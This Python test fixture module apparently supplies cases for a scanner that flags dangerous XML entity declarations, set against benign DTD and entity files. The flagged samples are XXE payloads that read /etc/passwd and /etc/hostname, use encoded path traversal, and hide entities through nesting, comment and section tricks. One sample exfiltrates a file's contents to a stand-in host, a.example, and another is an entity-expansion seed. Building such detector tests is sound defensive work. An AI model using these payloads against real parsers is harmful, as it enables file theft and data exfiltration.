"""Types of documents that are sent beside a document, and honest ones as their authors write them."""

from typing import Final

from tests.corpus.files.case import FileCase

_COMMENT: Final = b"<!-- %b -->\n" % (b"Permission to copy is granted. " * 300)
_DECLARATIONS: Final = {
    "file": b'<!ENTITY x SYSTEM "file:///etc/hostname">',
    "host": b'<!ENTITY % x PUBLIC "x" "http://a.example/x.dtd"> %x;',
    "neighbour": b'<?xml version="1.0"?><!ENTITY x SYSTEM "secret.xml">',
    "above": b'<!ELEMENT r ANY><!ENTITY % x SYSTEM "%2e%2e/../../../etc/passwd">',
    "sent-on": b"<!ENTITY % f SYSTEM 'f.ent'><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM 'http://a.example/?%f;'>\">%e;%s;",
    "deeper": b"<!ENTITY % e \"<!ENTITY &#x25; f '&#x26;#x3c;!ENTITY x SYSTEM \\'file:/x\\'>'>\">"
    b"<!ENTITY % g '&#60;!ENTITY x SYSTEM &#34;file:///x&#34;>'>%g;",
    "keyword-of-an-entity": b"<!ENTITY % s 'SYSTEM'><!ENTITY x %s; 'file:///etc/passwd'>",
    "in-half-a-comment": b"<!-- <!ENTITY a \" --><!ENTITY x SYSTEM 'file:///etc/passwd'><!-- \" -->",
    "in-a-section": b"<![INCLUDE[<!ENTITY x SYSTEM 'file:///etc/passwd'>]]>",
    "growing": b'<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">',
}
_HONEST_ONES: Final = {
    "letters.ent": b'<!-- Latin 1 -->\n<!ENTITY lt "&#38;#60;">\n<!ENTITY quot "&#34;">\n<!ENTITY nbsp "&#160;">\n',
    "names.ent": b'<!ENTITY company "The Company">\n<!ENTITY owner "Owned by &company;">\n',
    "page.dtd": _COMMENT + b'<!ENTITY % lat PUBLIC "-//W3C//ENTITIES Latin 1//EN" "xhtml-lat1.ent">\n%lat;\n'
    b'<!ENTITY % net PUBLIC "x" "http://www.w3.org/TR/x.mod"><!ENTITY % up SYSTEM "../ent/iso.ent">\n'
    b'<!ENTITY % block "p | %heading; | div"><!ELEMENT a %block;><!ATTLIST a href CDATA #IMPLIED>\n'
    b'<![%block;[<!NOTATION gif SYSTEM "viewer">]]><!ENTITY logo SYSTEM "logo.gif" NDATA gif>\n',
    "model.mod": b"<!-- Use <!ENTITY % ...> to change it. -->\n<!ELEMENT note (to, from)>\n",
    "notes.txt": _DECLARATIONS["file"],
    "notes.md": b"# XXE\n\n" + _DECLARATIONS["file"],
    "table.csv": b"%,a\n\"<!ENTITY x SYSTEM 'file:///x'>\",b\n",
}


def _case(name: str, data: bytes, *reasons: str) -> FileCase:
    return FileCase(name, lambda: data, frozenset(reasons), "open")


CASES: Final[tuple[FileCase, ...]] = (
    *(_case(f"{name}.dtd", data, "active_entity") for name, data in _DECLARATIONS.items()),
    *(_case(f"{name}.foo", _COMMENT + data, "active_entity") for name, data in _DECLARATIONS.items()),
    _case("wide.mod", _DECLARATIONS["file"].decode().encode("utf-16"), "active_entity"),
    _case("far-above.xml", b'<!DOCTYPE r SYSTEM "../../../../etc/passwd"><r/>', "active_entity"),
    _case("far-above-in-escapes.xml", b'<!DOCTYPE r SYSTEM "a/%2E%2e%5c../../etc/passwd"><r/>', "active_entity"),
    _case("above.xml", b'<!DOCTYPE r SYSTEM "../../dtd/r.dtd"><r/>'),
    *(_case(name, data) for name, data in _HONEST_ONES.items()),
)
